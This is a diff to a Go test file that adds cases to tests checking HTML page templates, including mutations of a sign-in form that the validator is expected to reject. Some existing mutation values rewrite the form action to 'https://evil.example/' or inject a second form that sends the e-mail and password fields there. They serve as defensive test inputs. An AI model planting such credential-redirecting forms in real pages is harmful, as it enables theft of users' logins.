@@ -175,6 +175,8 @@ func TestPagesSayOnlyWhatTheyMay(t *testing.T) {
 		refused(t, "page-problem.html", source(t, "page-problem.html", "</section>", bad+"</section>"), want)
 	}
 	refused(t, "page-problem.html", "", "write it so")
+	refused(t, "page-check-mail.html", "{{define \"content\"}}\n{{end}}", "write it so")
+	refused(t, "shell.html", "\n", "write it so")
 	refused(t, "page-problem.html", "<p>x</p>", "one {{define")
 	refused(t, "page-problem.html", source(t, "page-problem.html")+"x", "one {{define")
 	refused(t, "shell.html", source(t, "shell.html", "<main", `{{define "content"}}x{{end}}<main`), "one {{define")
@@ -188,7 +190,7 @@ func TestPagesKeepTheirForms(t *testing.T) {
 	const email, password = `{{template "input" field $s "email" "E-mail address" "kind" "email" "complete" "username" "required" "max" "254" "focus"}}`,
 		`{{template "input" field $s "password" "Password" "kind" "password" "complete" "current-password" "required"}}`
 	for name, changes := range map[string][][2]string{
-		"page-sign-in.html": {{email, ""}, {password, ""}, {password, "<!-- " + password + " -->"}, {password, "{{/* */}}"}, {`"kind" "password"`, ""}, {`field $s "password"`, `field $s "pass"`}, {email, email + email[:len(email)-3] + "}}<input name=\"x\">"},
+		"page-sign-in.html": {{email, ""}, {password, ""}, {password, "<!-- " + password + " -->"}, {password, "{{/* */}}"}, {`"kind" "password"`, ""}, {`field $s "password"`, `field $s "pass"`}, {email, email + email}, {email, email + email[:len(email)-3] + "}}<input name=\"x\">"},
 			{`{{if .Data.To}}<input type="hidden" name="return" value="{{.Data.To}}">{{end}}`, ""}, {`method="post" `, ""}, {`method="post"`, `method="get"`}, {`action="/account/sign-in"`, ""},
 			{`action="/account/sign-in"`, `action="https://evil.example/"`}, {`action="/account/sign-in"`, `action="/account/sign-up"`}, {"</form>", ""}, {`{{template "passkey-form" .Data.Passkey}}`, ""},
 			{"<p class=\"or\">", `<form method="post" action="https://evil.example/">` + email + password + `</form><p class="or">`}, {`<a class="button" href="{{.Start}}">`, "<a>"}},
